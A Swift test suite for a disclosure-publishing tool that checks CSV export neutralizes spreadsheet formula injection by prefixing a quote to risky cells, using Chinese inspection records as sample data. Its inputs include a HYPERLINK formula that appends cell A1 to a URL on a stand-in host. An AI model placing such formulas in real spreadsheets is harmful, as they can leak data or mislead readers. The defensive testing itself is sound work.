import Testing
@testable import Disclosure

/// Spreadsheet formula injection: a published cell that starts with `=`,
/// `+`, `-`, `@`, a tab or a carriage return is read by Excel, WPS and
/// LibreOffice as a formula (`=HYPERLINK("http://…","点此查看")`). Such a
/// cell gets a leading `'`, which the spreadsheet shows as text.
@Suite("CSV cells")
struct CSVFieldTests {
    static let dangerous = ["=HYPERLINK(\"http://x.example/?q=\"&A1,\"点此\")", "+86 0335-1234567", "-2+3", "@SUM(A1:A9)",
                            "\t=1+1", "\r=1+1", "=", "-"]
    static let harmless = ["宽城县第一中学", "2024-06-12", "未发现问题", "a=b", " =1+1", "'quoted", "", "12130827MB0000001X"]

    @Test(arguments: dangerous)
    func formulaStartsAreNeutralized(_ cell: String) {
        #expect(CSVField.neutralized(cell) == "'" + cell)
    }

    @Test(arguments: harmless)
    func otherCellsAreLeftAlone(_ cell: String) {
        #expect(CSVField.neutralized(cell) == cell)
    }

    @Test("every cell of disclosure.csv that would start a formula starts with a quote, and RFC 4180 still holds")
    func csvOutput() throws {
        let record = PublicationRecord(
            entityName: Self.dangerous[0], creditCode: Self.dangerous[1], planID: "p", planTitle: Self.dangerous[2],
            departments: [Self.dangerous[3], "消防"], inspectedOn: "2024-06-12", resultCode: "A", resultLabel: Self.dangerous[4],
            findings: [Self.dangerous[5], "第二条"], referrals: nil, publishedOn: "2024-06-20")
        let text = DisclosureRenderer.csv([record])
        let rows = parseCSV(String(text.dropFirst()))   // without the byte order mark
        #expect(rows.count == 2)
        let cells = try #require(rows.last)
        let raw = DisclosureRenderer.csvRow(record)
        #expect(cells.count == raw.count)
        for (cell, original) in zip(cells, raw) {
            let startsFormula = original.unicodeScalars.first.map { "=+-@\t\r".unicodeScalars.contains($0) } ?? false
            #expect(cell == (startsFormula ? "'" + original : original), "\(original.debugDescription)")
            #expect(cell.unicodeScalars.first.map { !"=+-@\t\r".unicodeScalars.contains($0) } ?? true)
        }
        // the cell with a comma, a quote and a line break is still quoted and escaped
        #expect(text.contains("\"'=HYPERLINK(\"\"http://x.example/?q=\"\"&A1,\"\"点此\"\")\""))
    }
}
